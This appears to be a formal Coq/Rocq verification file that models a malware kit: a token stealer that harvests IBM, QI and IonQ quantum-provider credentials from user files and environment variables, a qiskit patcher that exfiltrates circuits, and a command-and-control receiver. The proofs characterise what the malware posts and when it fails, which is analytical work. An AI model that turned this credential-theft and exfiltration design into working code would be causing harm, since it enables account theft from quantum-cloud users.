Theorem virtual_env_entry_ends_the_scan pre e post w :
  Forall (λ x, str.startswith x "VIRTUAL_ENV" = false) pre →
  str.startswith e "VIRTUAL_ENV" = true →
  LinuxPatcher.scan_environ (pre ++ e :: post) w =
    (LinuxPatcher.scan_environ pre ;; _add_patch (str.slice_from 12 e)) w.
Proof.
  intros Hpre He. revert w.
  induction Hpre as [|x pre Hv _ IH]; intros w; cbn [app LinuxPatcher.scan_environ].
  - by rewrite He.
  - rewrite Hv. destruct (str.startswith x "PATH="); [|apply IH].
    unfold mbind, M_bind in *.
    destruct (_add_patch _ w) as [[[]|e0|] w1]; [apply IH | done..].
Qed.

Lemma virtual_env_entry_ends_the_scan_witness :
  LinuxPatcher.scan_environ
    (["HOME=/root"; "PATH=/venv/bin:/usr/bin"] ++ "VIRTUAL_ENV=/venv"
       :: ["PATH=/opt/bin"; "VIRTUAL_ENV=/other"])
    unpatched_host
  = (LinuxPatcher.scan_environ ["HOME=/root"; "PATH=/venv/bin:/usr/bin"] ;;
     _add_patch (str.slice_from 12 "VIRTUAL_ENV=/venv")) unpatched_host.
Proof.
  apply (virtual_env_entry_ends_the_scan ["HOME=/root"; "PATH=/venv/bin:/usr/bin"]
           "VIRTUAL_ENV=/venv" ["PATH=/opt/bin"; "VIRTUAL_ENV=/other"] unpatched_host).
  - repeat constructor.
  - reflexivity.
Defined.

(** X13: [WindowsPatcher._processes_data] has no such isolation.
    When the snapshot's python processes are [pre ++ p :: post], those of
    [pre] are handled and the command line of [p] cannot be had (the
    process is gone, [NoSuchProcess]) or is empty ([IndexError]), the
    exception leaves the patch loop in its first round: the processes of
    [post] are not looked at, the watcher does not run, and none of the
    remaining 179 rounds takes place. *)
Theorem windows_discovery_stops_at_first_failure `{Codec} dir table later pre p post w w1 :
  ps w = table :: later →
  filter (λ q, str.contains (str.lower (name q)) "python" = true) table = pre ++ p :: post →
  WindowsPatcher._processes_data pre (set_ps later w) = (Ret (), w1) →
  cmdline p = None ∨ cmdline p = Some [] →
  patcher.run Windows dir w =
    (Raise (if cmdline p is None then NoSuchProcess else IndexError), w1).
Proof.
  intros Hps Hfilter Hpre Hp.
  assert (_running_processes w = (Ret (pre ++ p :: post), set_ps later w)) as Hrun.
  { unfold _running_processes, process_iter, mbind, M_bind. rewrite Hps. cbn.
    by rewrite Hfilter. }
  assert (WindowsPatcher._processes_data (pre ++ p :: post) (set_ps later w) =
          (Raise (if cmdline p is None then NoSuchProcess else IndexError), w1)) as Hdata.
  { unfold WindowsPatcher._processes_data in *. rewrite for_each_app.
    rewrite (bind_ret _ _ _ _ _ Hpre). cbn [for_each]. unfold mbind, M_bind.
    by destruct Hp as [-> | ->]. }
  unfold patcher.run. cbn [repeat_n].
  unfold mbind at 1, M_bind at 1. unfold mbind at 1, M_bind at 1.
  rewrite Hrun. cbn [_processes_data].
  unfold mbind at 1, M_bind at 1. by rewrite Hdata.
Qed.

Lemma windows_discovery_stops_at_first_failure_witness :
  @patcher.run ascii_codec Windows "/atk/bk-circuits" host_vanished_process =
    (Raise NoSuchProcess, set_ps [] host_vanished_process).
Proof.
  apply (@windows_discovery_stops_at_first_failure ascii_codec "/atk/bk-circuits"
           [Process 30 "python.exe" Unopenable None] [] [] (Process 30 "python.exe" Unopenable None) []
           host_vanished_process (set_ps [] host_vanished_process)).
  - reflexivity.
  - reflexivity.
  - reflexivity.
  - left. reflexivity.
Defined.

(** ** A second pass of the watcher *)

Lemma child_name_nonempty p k d : child_name p k = Some d → d ≠ "".
Proof.
  unfold child_name. destruct (strip_prefix (join p "") k) as [d'|]; [|done].
  destruct (bool_decide (d' = "") || contains_sep d') eqn:Hd; [done|].
  intros [= <-]. apply orb_false_elim in Hd as [Hd _]. by apply bool_decide_eq_false_1 in Hd.
Qed.

Lemma child_name_join p d :
  d ≠ "" → contains_sep d = false → child_name p (join p d) = Some d.
Proof.
  intros Hd Hsep. unfold child_name.
  rewrite (join_child p d) by (by apply contains_sep_start).
  assert (∀ pre s, strip_prefix pre (pre +:+ s) = Some s) as ->.
  { intros pre s. induction pre as [|a pre IH]; [done|].
    rewrite app_cons. cbn. by rewrite bool_decide_true. }
  by rewrite bool_decide_false, Hsep.
Qed.

Lemma omap_nil_iff {A B} (f : A → option B) (l : list A) :
  (∀ x, x ∈ l → f x = None) → omap f l = [].
Proof.
  induction l as [|x l IH]; intros H; [done|]. cbn.
  rewrite (H x) by apply list_elem_of_here.
  apply IH. intros y Hy. apply H. by apply list_elem_of_further.
Qed.

(** A directory whose entries have all been removed lists as empty. *)
Lemma listdir_after_delete dir (f : gmap string node) names :
  listdir dir f = (Ret names, f) →
  let f' := foldl (λ f p, delete p f) f (map (join dir) names) in
  f' !! dir = Some Dir → listdir dir f' = (Ret [], f').
Proof.
  intros Hl f' Hdir. unfold listdir. rewrite Hdir. f_equal. f_equal.
  apply omap_nil_iff. intros k Hk.
  destruct (child_name dir k) as [d|] eqn:Hc; [|done]. exfalso.
  apply list_elem_of_fmap in Hk as ([k' v] & -> & Hkv). cbn in Hc.
  apply elem_of_map_to_list in Hkv.
  assert (is_Some (f !! k')) as [v' Hv'].
  { unfold f' in Hkv. rewrite lookup_foldl_delete in Hkv. case_decide; [done|]. eauto. }
  assert (d ∈ names) as Hd.
  { unfold listdir in Hl. destruct (f !! dir) as [[|]|]; [done| |done].
    injection Hl as <-. apply list_elem_of_omap. exists k'. split; [|done].
    apply list_elem_of_fmap. exists (k', v'). split; [done|].
    by apply elem_of_map_to_list. }
  pose proof (child_name_Some _ _ _ Hc) as [-> _].
  unfold f' in Hkv. rewrite lookup_foldl_delete in Hkv.
  rewrite decide_True in Hkv; [done|]. by apply list_elem_of_fmap_2.
Qed.

Section single_delivery.
Context `{codec : Codec}.

Lemma report_circuits_empty dir w :
  listdir dir (fs w) = (Ret [], fs w) → _report_circuits dir w = (Ret (), w).
Proof. intros Hl. by rewrite (report_circuits_unfold _ _ _ Hl). Qed.

(** X14: circuits are delivered once.  When the entries of the
    backup directory are all readable files, a pass of the watcher posts
    their contents and returns, and a second pass right after it finds
    the directory empty: it posts nothing and changes nothing. *)
Theorem circuits_are_delivered_once dir w names texts :
  listdir dir (fs w) = (Ret names, fs w) →
  Forall2 (readable (fs w) dir) names texts →
  ∃ w', _report_circuits dir w = (Ret (), w') ∧
        sent w' = sent w ++ map circuit_message texts ∧
        (_report_circuits dir ;; _report_circuits dir) w = (Ret (), w').
Proof.
  intros Hl Hread.
  pose proof (listdir_Ret _ _ _ _ Hl) as (_ & Hdir & Hnd & Hnames).
  assert (∀ n, n ∈ names → n ≠ "") as Hne.
  { intros n Hn. unfold listdir in Hl. rewrite Hdir in Hl. injection Hl as <-.
    apply list_elem_of_omap in Hn as (k & _ & Hk). by apply child_name_nonempty in Hk. }
  assert (_report_circuits dir w =
    (Ret (), set_fs (foldl (λ f p, delete p f) (fs w) (map (join dir) names))
               (set_sent (sent w ++ map circuit_message texts) w))) as Hpass.
  { rewrite (report_circuits_unfold _ _ _ Hl).
    rewrite (bind_ret _ _ _ _ _ (read_phase _ _ _ _ Hread [] w eq_refl)).
    rewrite delete_phase; cbn; [done| |].
    - apply NoDup_fmap_2_strong; [|done].
      intros x y Hx Hy. apply join_child_inj; by apply Hnames.
    - intros p (n & -> & Hn)%list_elem_of_fmap.
      apply list_elem_of_lookup in Hn as [i Hi].
      destruct (Forall2_lookup_l _ _ _ _ _ Hread Hi) as (t & _ & bytes & Hb & _).
      by apply (isfile_File _ _ bytes). }
  eexists. split; [exact Hpass|]. split; [done|].
  rewrite (bind_ret _ _ _ _ _ Hpass).
  set (f' := foldl (λ f p, delete p f) (fs w) (map (join dir) names)).
  assert (f' !! dir = Some Dir) as Hdir'.
  { unfold f'. rewrite lookup_foldl_delete, decide_False; [done|].
    intros (n & Hn & Hin)%list_elem_of_fmap.
    pose proof (Hnames n Hin) as [_ Hsep]. pose proof (Hne n Hin) as Hnn.
    pose proof (f_equal String.length Hn) as Hlen.
    rewrite (join_child dir n) in Hlen by (by apply contains_sep_start).
    rewrite length_app_string in Hlen.
    assert (String.length dir ≤ String.length (join dir "")).
    { unfold join. cbn. destruct (bool_decide (dir = "") || endswith_sep dir);
        rewrite ?length_app_string; cbn; lia. }
    assert (0 < String.length n) by (destruct n; [done | cbn; lia]). lia. }
  apply report_circuits_empty.
  exact (listdir_after_delete dir (fs w) names Hl Hdir').
Qed.
End single_delivery.

Lemma circuits_are_delivered_once_witness :
  ∃ w', @_report_circuits ascii_codec "/atk/bk-circuits" host_two_circuits = (Ret (), w') ∧
        sent w' = sent host_two_circuits ++
                  map circuit_message ["x q[0];"; "h q[0]; cx q[0],q[1];"] ∧
        (@_report_circuits ascii_codec "/atk/bk-circuits" ;;
         @_report_circuits ascii_codec "/atk/bk-circuits") host_two_circuits = (Ret (), w').
Proof.
  apply (@circuits_are_delivered_once ascii_codec "/atk/bk-circuits" host_two_circuits
           ["flip.qasm"; "bell.qasm"]).
  - reflexivity.
  - repeat constructor; eexists; split; reflexivity.
Defined.

(** ** What is posted, and by whom *)

Section sent_frame.
Context (Q : string * value → Prop) (w0 : world).

Lemma only_posts_refl : only_posts Q w0 w0.
Proof. exists []. by rewrite app_nil_r. Qed.

(** A computation that leaves [sent] alone. *)
Lemma keeps_sent {A} (m : M world A) :
  (∀ w, sent (m w).2 = sent w) → preserves (only_posts Q w0) m.
Proof. intros Hm w (msgs & Hs & HQ). exists msgs. by rewrite Hm. Qed.

Lemma on_fs_sent {A} (m : M (gmap string node) A) : preserves (only_posts Q w0) (on_fs m).
Proof. apply keeps_sent. intros w. unfold on_fs. by destruct (m (fs w)). Qed.

Lemma sleep_sent : preserves (only_posts Q w0) sleep.
Proof. apply keeps_sent. intros w. unfold sleep. by destruct (sigint w) as [[|]|]. Qed.

Lemma process_iter_sent : preserves (only_posts Q w0) process_iter.
Proof. apply keeps_sent. intros w. unfold process_iter. by destruct (ps w). Qed.

Lemma read_text_sent `{Codec} p : preserves (only_posts Q w0) (read_text p).
Proof. apply keeps_sent. intros w. unfold read_text. by repeat case_match. Qed.

Lemma send_sent api data : Q (api, data) → preserves (only_posts Q w0) (send api data).
Proof.
  intros HQ w (msgs & Hs & Hmsgs). exists (msgs ++ [(api, data)]). cbn.
  rewrite Hs, app_assoc. split; [done|]. apply Forall_app. split; [done|]. by constructor.
Qed.

Lemma climb_sent fuel path : preserves (only_posts Q w0) (climb_to_lib fuel path).
Proof.
  revert path. induction fuel as [|fuel IH]; intros path; [apply preserves_hang|].
  cbn. apply preserves_bind; [apply preserves_gets|].
  intros []; [apply preserves_ret | apply IH].
Qed.

Lemma site_package_sent path : preserves (only_posts Q w0) (_site_package path).
Proof.
  unfold _site_package. apply preserves_bind; [apply climb_sent|]. intros a.
  apply preserves_bind; [apply on_fs_sent|]. intros. apply preserves_ret.
Qed.

Lemma patch_qiskit_sent loc restore : preserves (only_posts Q w0) (_patch_qiskit loc restore).
Proof.
  unfold _patch_qiskit.
  apply preserves_bind; [apply preserves_gets|]. intros d.
  apply preserves_bind; [apply preserves_gets|]. intros [|]; cbn; [|apply preserves_ret].
  apply preserves_bind; [apply preserves_gets|]. intros [|].
  - destruct restore; [|apply preserves_ret].
    apply preserves_bind; [apply on_fs_sent|]. intros. apply on_fs_sent.
  - apply preserves_try_except; [|intros; apply preserves_ret].
    apply preserves_bind; [apply on_fs_sent|]. intros. apply on_fs_sent.
Qed.

Lemma add_patch_sent path : preserves (only_posts Q w0) (_add_patch path).
Proof.
  unfold _add_patch.
  apply preserves_bind; [apply preserves_gets|]. intros data.
  case_bool_decide; [apply preserves_ret|].
  apply preserves_bind; [by apply keeps_sent|]. intros _.
  apply preserves_bind; [apply site_package_sent|]. intros paths.
  apply preserves_for_each. intros p. apply patch_qiskit_sent.
Qed.

Lemma remove_patch_sent path : preserves (only_posts Q w0) (_remove_patch path).
Proof.
  unfold _remove_patch.
  apply preserves_bind; [apply preserves_gets|]. intros data.
  destruct (negb _); [apply preserves_ret|].
  apply preserves_bind; [by apply keeps_sent|]. intros _.
  apply preserves_bind; [apply site_package_sent|]. intros paths.
  apply preserves_for_each. intros p. apply patch_qiskit_sent.
Qed.

Lemma scan_environ_sent entries :
  preserves (only_posts Q w0) (LinuxPatcher.scan_environ entries).
Proof.
  induction entries as [|e rest IH]; cbn; [apply preserves_ret|].
  destruct (str.startswith e "VIRTUAL_ENV"); [apply add_patch_sent|].
  destruct (str.startswith e "PATH="); [|done].
  apply preserves_bind; [apply add_patch_sent | by intros _].
Qed.

Lemma processes_data_sent self running_processes :
  preserves (only_posts Q w0) (_processes_data self running_processes).
Proof.
  destruct self; cbn; apply preserves_for_each; intros p.
  - apply preserves_try_except; [|intros; apply preserves_ret].
    destruct (proc_environ p); [apply preserves_raise.. | apply scan_environ_sent].
  - destruct (cmdline p) as [[|python_path ?]|];
      [apply preserves_raise | apply add_patch_sent | apply preserves_raise].
Qed.

Lemma restore_state_sent : preserves (only_posts Q w0) restore_state.
Proof.
  apply preserves_bind; [apply preserves_gets|].
  intros data. apply preserves_for_each. intros d. apply remove_patch_sent.
Qed.
End sent_frame.

Section circuit_posts.
Context `{codec : Codec}.

Lemma report_circuits_posts w0 dir :
  preserves (only_posts is_circuit_post w0) (_report_circuits dir).
Proof.
  unfold _report_circuits.
  apply preserves_bind; [apply preserves_gets|]. intros [|]; cbn; [|apply preserves_ret].
  apply preserves_bind; [apply on_fs_sent|]. intros names.
  apply preserves_bind.
  - apply preserves_for_acc. intros x b.
    apply preserves_bind; [apply read_text_sent|]. intros content.
    apply preserves_bind; [|intros; apply preserves_ret].
    apply send_sent. by exists content.
  - intros. apply preserves_for_each. intros. apply on_fs_sent.
Qed.

Lemma patcher_run_posts w0 self dir :
  preserves (only_posts is_circuit_post w0) (patcher.run self dir).
Proof.
  apply preserves_repeat_n.
  apply preserves_bind.
  { apply preserves_bind; [apply process_iter_sent | intros; apply preserves_ret]. }
  intros running. apply preserves_bind; [apply processes_data_sent|].
  intros _. apply preserves_bind; [apply report_circuits_posts|].
  intros _. apply sleep_sent.
Qed.

(** X15: the patch loop posts circuits and nothing else.
    Whatever the machine and however the loop ends, the messages it has
    added to those posted before are all [("/circuit", {"circuit":
    content})] for a string [content]: messages in which the receiver
    finds the key ["circuit"] it reads.  Nothing posted earlier is
    removed or changed. *)
Theorem patch_loop_posts_circuits_only self dir w :
  ∃ msgs, sent (patcher.run self dir w).2 = sent w ++ msgs ∧
          Forall (λ m, ∃ content, m = circuit_message content ∧
                                  getitem m.2 "circuit" = inr (JStr content)) msgs.
Proof.
  destruct (patcher_run_posts w self dir w (only_posts_refl _ _)) as (msgs & Hs & HQ).
  exists msgs. split; [done|].
  eapply Forall_impl; [exact HQ|]. intros m [content ->]. by exists content.
Qed.
End circuit_posts.

(** ** The token stealer *)

Section stealer_posts.
Context `{codec : Codec}.

Lemma only_posts_and_reads_refl Q w0 : only_posts_and_reads Q w0 w0.
Proof. exists []. split; [|done]. rewrite app_nil_r. by destruct w0. Qed.

Lemma reads_only Q w0 {A} (m : M world A) :
  (∀ w, (m w).2 = w) → preserves (only_posts_and_reads Q w0) m.
Proof. intros Hm w Hw. by rewrite Hm. Qed.

Lemma send_only_posts Q w0 api data :
  Q (api, data) → preserves (only_posts_and_reads Q w0) (send api data).
Proof.
  intros HQ w (msgs & -> & Hmsgs). exists (msgs ++ [(api, data)]). cbn.
  rewrite app_assoc. split; [done|]. apply Forall_app. split; [done|]. by constructor.
Qed.

Lemma listdir_reads Q w0 p : preserves (only_posts_and_reads Q w0) (on_fs (listdir p)).
Proof.
  apply reads_only. intros w. unfold on_fs, listdir.
  destruct (fs w !! p) as [[|]|]; cbn; apply set_fs_id.
Qed.

Lemma read_json_reads Q w0 p : preserves (only_posts_and_reads Q w0) (read_json p).
Proof. apply reads_only. intros w. unfold read_json. by repeat case_match. Qed.

Lemma scan_file_posts w0 d user entry :
  entry ∈ token_stealer._data →
  preserves (only_posts_and_reads is_token_post w0) (token_stealer.scan_file d user entry).
Proof.
  intros Hin. destruct entry as [key value]. unfold token_stealer.scan_file.
  apply preserves_bind; [apply preserves_gets|]. intros [|]; cbn; [|apply preserves_ret].
  apply preserves_bind; [apply read_json_reads|].
  intros data. destruct (reduce_getitem _ data) as [e|token]; [apply preserves_raise|].
  apply send_only_posts. exists key, token. split; [done|].
  apply elem_of_cons in Hin as [[= -> _] | Hin]; [apply list_elem_of_here|].
  apply elem_of_cons in Hin as [[= -> _] | Hin];
    [apply list_elem_of_further, list_elem_of_here|].
  by apply elem_of_nil in Hin.
Qed.

Lemma for_each_elem {St A} (P : St → Prop) (xs : list A) (body : A → M St ()) :
  (∀ x s, x ∈ xs → P s → P (body x s).2) → ∀ s, P s → P (for_each xs body s).2.
Proof.
  induction xs as [|x xs IH]; intros Hb s Hs; [done|].
  cbn. unfold mbind, M_bind.
  pose proof (Hb x s (list_elem_of_here _ _) Hs) as Hx.
  destruct (body x s) as [[[]|e|] s1]; cbn in *; [|done..].
  apply IH; [|done]. intros y s' Hy. apply Hb. by apply list_elem_of_further.
Qed.

Lemma scan_variable_posts w0 tenv :
  preserves (only_posts_and_reads is_token_post w0) (token_stealer.scan_variable "IonQ" tenv).
Proof.
  unfold token_stealer.scan_variable.
  apply preserves_bind; [apply preserves_gets|]. intros [t|]; [|apply preserves_ret].
  case_bool_decide; [apply preserves_ret|].
  apply send_only_posts. exists "IonQ", (JStr t). split; [done|].
  repeat first [apply list_elem_of_here | apply list_elem_of_further].
Qed.

Lemma stealer_run_posts w0 :
  preserves (only_posts_and_reads is_token_post w0) token_stealer.run.
Proof.
  unfold token_stealer.run. apply preserves_bind.
  - unfold token_stealer.scan_directories.
    apply preserves_bind; [apply preserves_gets|]. intros d.
    apply preserves_bind; [apply listdir_reads|]. intros users.
    apply preserves_for_each. intros user.
    intros w Hw. apply (for_each_elem (only_posts_and_reads is_token_post w0)); [|done].
    intros entry s Hentry. by apply scan_file_posts.
  - intros _.
    change token_stealer.scan_environment with
      (for_each ["IONQ_API_KEY"; "IONQ_API_TOKEN"; "QISKIT_IONQ_API_TOKEN"]
         (token_stealer.scan_variable "IonQ") ;; mret () : M world ()).
    apply preserves_bind; [|intros; apply preserves_ret].
    apply preserves_for_each. intros tenv. apply scan_variable_posts.
Qed.

(** X16: [TokenStealer.run] only reads and posts.  However it
    ends, the machine it leaves differs from the one it found only by
    the messages appended to the posted ones, and each of them is a
    [/token] message whose provider is ["IBM"], ["QI"] or ["IonQ"]. *)
Theorem token_stealer_reads_and_posts_tokens w :
  ∃ msgs, (token_stealer.run w).2 = set_sent (sent w ++ msgs) w ∧
          Forall is_token_post msgs.
Proof. apply (stealer_run_posts w w), only_posts_and_reads_refl. Qed.

(** X21: the daemon and the receiver agree on the providers.
    Every message [TokenStealer.run] posts goes to [/token], and on its
    payload the lookups of [C2Server._jobs] do not fail: the provider
    is a key of the receiver's table, and [_jobs] on the payload is the
    call of that provider's routine with the posted token. *)
Theorem stolen_tokens_are_dispatched w :
  ∃ msgs, sent (token_stealer.run w).2 = sent w ++ msgs ∧
          Forall (λ m, m.1 = "/token" ∧
                       ∃ provider routine token,
                         (provider, routine) ∈ [ ("IBM", quantum_c2._jobs_ibm);
                                                 ("QI", quantum_c2._jobs_qi);
                                                 ("IonQ", quantum_c2._jobs_ionq) ] ∧
                         m.2 = JObj [("provider", JStr provider); ("token", token)] ∧
                         ∀ t, quantum_c2._jobs m.2 t = routine token t) msgs.
Proof.
  destruct (stealer_run_posts w w (only_posts_and_reads_refl _ _)) as (msgs & -> & HQ).
  exists msgs. split; [done|].
  eapply Forall_impl; [exact HQ|].
  intros m (provider & token & -> & Hp). split; [done|].
  apply elem_of_cons in Hp as [-> | Hp];
    [exists "IBM", quantum_c2._jobs_ibm, token; split_and!; [set_solver | done..]|].
  apply elem_of_cons in Hp as [-> | Hp];
    [exists "QI", quantum_c2._jobs_qi, token; split_and!; [set_solver | done..]|].
  apply elem_of_cons in Hp as [-> | Hp];
    [exists "IonQ", quantum_c2._jobs_ionq, token; split_and!; [set_solver | done..]|].
  by apply elem_of_nil in Hp.
Qed.
End stealer_posts.

Section stealer_phases.
Context `{codec : Codec}.

(** One file: absent, it is passed over in silence; present and well
    formed, its token is posted. *)
Lemma scan_file_found w d user entry :
  isfile (fs w) (join3 d user (token_stealer.path entry.2)) = false ∨
    is_Some (found_token (fs w) d user entry) →
  token_stealer.scan_file d user entry w =
    (Ret (), set_sent (sent w ++ option_list (found_token (fs w) d user entry)) w).
Proof.
  destruct entry as [key value]. unfold found_token. cbn [fst snd].
  destruct (fs w !! join3 d user (token_stealer.path value)) as [[bytes|]|] eqn:Ef.
  - rewrite (isfile_File _ _ _ Ef).
    destruct (json_load bytes) as [data|] eqn:Ej; [|by intros [? | [m ?]]].
    destruct (reduce_getitem _ data) as [e|token] eqn:Ek; [by intros [? | [m ?]]|].
    intros _. by apply (scan_file_sends _ _ _ _ _ bytes data).
  - intros _. unfold token_stealer.scan_file. py_unfold. unfold isfile. rewrite Ef.
    cbn. by rewrite app_nil_r, set_sent_id.
  - intros _. unfold token_stealer.scan_file. py_unfold. unfold isfile. rewrite Ef.
    cbn. by rewrite app_nil_r, set_sent_id.
Qed.

Lemma scan_user_found w d user :
  (∀ entry, entry ∈ token_stealer._data →
     isfile (fs w) (join3 d user (token_stealer.path entry.2)) = false ∨
     is_Some (found_token (fs w) d user entry)) →
  for_each token_stealer._data (token_stealer.scan_file d user) w =
    (Ret (), set_sent (sent w ++ omap (found_token (fs w) d user) token_stealer._data) w).
Proof.
  intros H.
  assert (∀ (f : string * token_stealer.location → option (string * value)) a b,
            omap f [a; b] = option_list (f a) ++ option_list (f b)) as Homap.
  { intros f a b. cbn. by destruct (f a), (f b). }
  unfold token_stealer._data in *. rewrite Homap. cbn [for_each].
  rewrite (bind_ret _ _ _ _ _ (scan_file_found w d user _ (H _ (list_elem_of_here _ _)))).
  set (w1 := set_sent _ w).
  rewrite (bind_ret _ _ _ _ _ (scan_file_found w1 d user _
             (H _ (list_elem_of_further _ _ _ (list_elem_of_here _ _))))).
  unfold w1, mret, M_ret. f_equal. change (fs (set_sent _ w)) with (fs w).
  destruct w; cbn. by rewrite app_assoc.
Qed.

Lemma scan_users_found d users : ∀ w,
  (∀ user entry, user ∈ users → entry ∈ token_stealer._data →
     isfile (fs w) (join3 d user (token_stealer.path entry.2)) = false ∨
     is_Some (found_token (fs w) d user entry)) →
  for_each users (λ user, for_each token_stealer._data (token_stealer.scan_file d user)) w =
    (Ret (), set_sent (sent w ++ directory_messages (fs w) d users) w).
Proof.
  induction users as [|user users IH]; intros w H.
  - cbn. by rewrite app_nil_r, set_sent_id.
  - cbn [for_each].
    rewrite (bind_ret _ _ _ _ _ (scan_user_found w d user
               (λ entry, H user entry (list_elem_of_here _ _)))).
    rewrite IH.
    + cbn. by rewrite <- app_assoc.
    + intros u entry Hu. apply H. by apply list_elem_of_further.
Qed.

(** X17: what [TokenStealer.run] posts when no file makes it
    fail.  The user directories are listed; below each one, a provider's
    file is either absent, and passed over in silence, or holds a JSON
    document with the provider's key path.  Then [run] returns, having
    posted the tokens of the files, user by user in listing order and
    IBM before QI, and after them the messages of the environment
    phase. *)
Theorem stealer_run_messages w users :
  let d := token_stealer._d_path (platform_system w) in
  listdir d (fs w) = (Ret users, fs w) →
  (∀ user entry, user ∈ users → entry ∈ token_stealer._data →
     isfile (fs w) (join3 d user (token_stealer.path entry.2)) = false ∨
     is_Some (found_token (fs w) d user entry)) →
  token_stealer.run w =
    (Ret (), set_sent (sent w ++ directory_messages (fs w) d users
                              ++ environment_messages (environ w)) w).
Proof.
  intros d Hl H.
  assert (token_stealer.scan_directories w =
          (Ret (), set_sent (sent w ++ directory_messages (fs w) d users) w)) as Hdir.
  { unfold token_stealer.scan_directories, gets, on_fs, mbind, M_bind. cbv beta iota zeta.
    fold d. rewrite Hl. cbv beta iota zeta. rewrite set_fs_id. by apply scan_users_found. }
  unfold token_stealer.run. rewrite (bind_ret _ _ _ _ _ Hdir).
  rewrite scan_environment_sends. cbn. by rewrite <- app_assoc.
Qed.

(** X18: on a system that is neither Linux nor Windows the
    directory to scan is the empty string, [os.listdir] raises
    [FileNotFoundError], and [run] ends there: nothing is posted, the
    environment variables are never looked at. *)
Theorem stealer_fails_on_other_systems w :
  platform_system w ≠ "Linux" → platform_system w ≠ "Windows" →
  fs w !! "" = None →
  token_stealer.run w = (Raise FileNotFoundError, w).
Proof.
  intros HL HW Hroot.
  unfold token_stealer.run, token_stealer.scan_directories, token_stealer._d_path.
  unfold gets, on_fs, mbind, M_bind. cbv beta iota zeta.
  rewrite !bool_decide_false by done. unfold listdir. rewrite Hroot.
  by rewrite set_fs_id.
Qed.
End stealer_phases.

Section daemon_and_stealer.
Context `{codec : Codec}.

(** X19: an exception of the token stealer keeps the daemon from
    patching anything.  On Linux or Windows, with the record empty as
    the constructor leaves it, when [TokenStealer.run] raises an
    exception other than [KeyboardInterrupt] (a malformed credential
    file, say), the patch loop is never entered; the cleanup finds the
    record empty, the exception leaves the script, and the file system
    is as it was. *)
Theorem stealer_failure_skips_the_patch_loop backup w e w1 :
  platform_system w = "Linux" ∨ platform_system w = "Windows" →
  _m_data w = [] →
  token_stealer.run w = (Raise e, w1) →
  e ≠ KeyboardInterrupt →
  quantum_daemon.main backup w = (Raise e, w1) ∧ fs w1 = fs w.
Proof.
  intros Hsys Hdata0 Hrun He.
  destruct (stealer_run_posts w w (only_posts_and_reads_refl _ _)) as (msgs & Hw1 & _).
  rewrite Hrun in Hw1. cbn in Hw1.
  assert (_m_data w1 = []) as Hdata by (by rewrite Hw1).
  split; [|by rewrite Hw1].
  assert (∀ self, guarded (token_stealer.run ;; patcher.run self backup) w = (Raise e, w1)) as Hg.
  { intros self.
    rewrite (guarded_runs_restore_state _ w (Raise e) w1); [|by rewrite (bind_raise _ _ _ _ _ Hrun)|done].
    unfold restore_state, gets, mbind, M_bind. rewrite Hdata. cbn.
    by destruct e. }
  unfold quantum_daemon.main, gets. unfold mbind at 1, M_bind at 1.
  destruct Hsys as [-> | ->].
  - rewrite bool_decide_true by done. by rewrite (bind_raise _ _ _ _ _ (Hg Linux)).
  - rewrite bool_decide_false by done. rewrite bool_decide_true by done.
    by rewrite (bind_raise _ _ _ _ _ (Hg Windows)).
Qed.
End daemon_and_stealer.

Lemma stealer_failure_skips_the_patch_loop_witness :
  @quantum_daemon.main ascii_codec "/atk/bk-circuits" host_bob = (Raise KeyError, host_bob) ∧
  fs host_bob = fs host_bob.
Proof.
  apply (@stealer_failure_skips_the_patch_loop ascii_codec "/atk/bk-circuits" host_bob
           KeyError host_bob).
  - left. reflexivity.
  - reflexivity.
  - reflexivity.
  - discriminate.
Defined.

(** ** The receiver, request by request *)

Section c2_requests.
Context `{codec : Codec}.

(** X23: only a POST to [/token] reaches a provider.  A POST to
    another path, once its header and body are read, puts out the
    acknowledgment and nothing more.  On an unknown path it returns
    without parsing the body.  On [/circuit] it returns when the body is
    a JSON object with the key ["circuit"], and raises otherwise:
    [JSONDecodeError] for a body that is not JSON, [KeyError] for an
    object without the key, [TypeError] for a document that is not an
    object. *)
Theorem only_token_posts_reach_a_provider self t s n text :
  content_length self = Some s → int_of_str s = Some n →
  utf8_decode (rfile_read n (rfile self)) = Some text →
  quantum_c2.path self ≠ "/token" →
  (quantum_c2.path self ≠ "/circuit" → quantum_c2.do_POST self t = (Ret (), t ++ ack)) ∧
  (quantum_c2.path self = "/circuit" →
     quantum_c2.do_POST self t =
       (match json_loads text with
        | None => Raise JSONDecodeError
        | Some (JObj members) =>
            if assoc "circuit" members is Some _ then Ret () else Raise KeyError
        | Some _ => Raise TypeError
        end, t ++ ack)).
Proof.
  intros Hc Hn Hd Hpath.
  rewrite (do_POST_acknowledges self t s n text Hc Hn Hd).
  rewrite bool_decide_false by done. split.
  - intros Hp. by rewrite bool_decide_false.
  - intros Hp. rewrite bool_decide_true by done.
    unfold loads, mbind, M_bind.
    destruct (json_loads text) as [data|]; [|done].
    destruct data as [| | | | | |members]; try done. cbn.
    by destruct (assoc "circuit" members).
Qed.

(** X24: what [C2Server._jobs] needs of the document.  When the
    document is an object whose ["provider"] is one of the three names
    and which has a ["token"], [_jobs] is the call of that provider's
    routine with the token as it stands in the document.  On any other
    document it raises [KeyError] or [TypeError] before a routine is
    called: nothing is put out. *)
Theorem jobs_needs_provider_and_token data t :
  (∃ members provider routine token,
     data = JObj members ∧
     assoc "provider" members = Some (JStr provider) ∧
     (provider, routine) ∈ [ ("IBM", quantum_c2._jobs_ibm);
                             ("QI", quantum_c2._jobs_qi);
                             ("IonQ", quantum_c2._jobs_ionq) ] ∧
     assoc "token" members = Some token ∧
     quantum_c2._jobs data t = routine token t) ∨
  (∃ e, (e = KeyError ∨ e = TypeError) ∧ quantum_c2._jobs data t = (Raise e, t)).
Proof.
  unfold quantum_c2._jobs, mbind, M_bind.
  destruct data as [| | | | | |members];
    try (right; exists TypeError; split; [by right | done]).
  cbn. destruct (assoc "provider" members) as [p|] eqn:Ep;
    [|right; exists KeyError; split; [by left | done]].
  cbn. destruct p as [|b|z|x|s0|l|l];
    try (right; exists KeyError; split; [by left | done]);
    try (right; exists TypeError; split; [by right | done]).
  cbn. repeat case_bool_decide; subst; cbn;
    try (right; exists KeyError; split; [by left | done]);
    (destruct (assoc "token" members) as [token|] eqn:Et; cbn;
      [|right; exists KeyError; split; [by left | done]]);
    left.
  - exists members, "IBM", quantum_c2._jobs_ibm, token. split_and!; [done.. | set_solver | done | done].
  - exists members, "QI", quantum_c2._jobs_qi, token. split_and!; [done.. | set_solver | done | done].
  - exists members, "IonQ", quantum_c2._jobs_ionq, token. split_and!; [done.. | set_solver | done | done].
Qed.
